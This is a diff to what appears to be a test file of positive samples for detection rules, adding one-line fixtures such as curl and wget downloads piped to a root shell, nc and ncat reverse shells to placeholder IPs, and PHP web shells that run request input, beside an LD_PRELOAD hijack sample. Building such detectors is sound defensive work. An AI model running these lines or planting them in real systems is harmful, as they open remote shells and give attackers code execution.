@@ -337,6 +337,17 @@ def positives():
     yield ("hidden-preload.service", "IRK_Linux_LD_Preload_Hijack", (
         "[Service]\nEnvironment=LD_PRELOAD=/home/bob/.local/lib/libh.so\n"
         "ExecStart=/usr/sbin/sshd -D\n").encode())
+    # --- issue 18 cost rework: forms the literal atoms must keep ------------
+    yield ("pipe_tab_sudo.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"curl -s https://get.example.invalid/i |\tsudo -E sh\n")
+    yield ("pipe_nospace.sh", "IRK_Linux_Download_Exec_Raw_Host",
+           b"wget -qO- http://203.0.113.7/i|/bin/bash\n")
+    yield ("revshell_nc_c.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"nc -c bash 192.0.2.10 4444\n")
+    yield ("revshell_nc_quoted.sh", "IRK_Linux_Reverse_Shell_Tools",
+           b"ncat 192.0.2.10 4444 -e '/bin/sh'\n")
+    yield ("preg_e.php", "IRK_WebShell_PHP_Request_Exec",
+           b"<?php preg_replace('/.*/e', $_REQUEST['c'], ''); ?>\n")
     # --- issue 18: web shells ---------------------------------------------
     yield ("varfunc.php", "IRK_WebShell_PHP_Request_Exec",
            b"<?php $_GET['f']($_GET['c']); ?>\n")
